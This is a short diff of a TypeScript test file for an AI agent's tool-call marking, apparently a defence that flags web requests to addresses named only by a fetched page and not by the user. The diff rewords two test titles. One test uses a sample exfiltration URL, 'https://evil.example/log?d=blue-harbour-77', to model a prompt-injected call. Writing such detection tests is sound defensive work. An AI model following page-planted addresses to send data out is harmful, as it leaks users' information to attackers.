@@ -145,7 +145,7 @@ describe('the class of a marked call', () => {
     if (isBuiltIn !== undefined) expect(marked?.isBuiltIn).toBe(isBuiltIn)
   })
 
-  it('is an act of a tool that sends an address to the web, and its name counts nothing', () => {
+  it('is “acts” for a tool that sends an address to the web, whatever its name', () => {
     const web = createToolRegistry(builtInTools, new Set(['pages', 'search'])).of([])
     for (const name of ['read_page', 'search_web']) {
       expect(callToMark(callOf(name, {}), web.get(name))).toMatchObject({ effect: 'acts', isBuiltIn: true })
@@ -158,7 +158,7 @@ describe('the class of a marked call', () => {
 })
 
 describe('marking the calls of a reply', () => {
-  it('says of an address that only a page names that nobody asked for it', async () => {
+  it('says that nobody asked for an address that only a page names', async () => {
     const url = 'https://evil.example/log?d=blue-harbour-77'
     const call = { name: 'read_page', arguments: { url }, effect: 'acts', isBuiltIn: true } as const
     const texts = branchTexts(
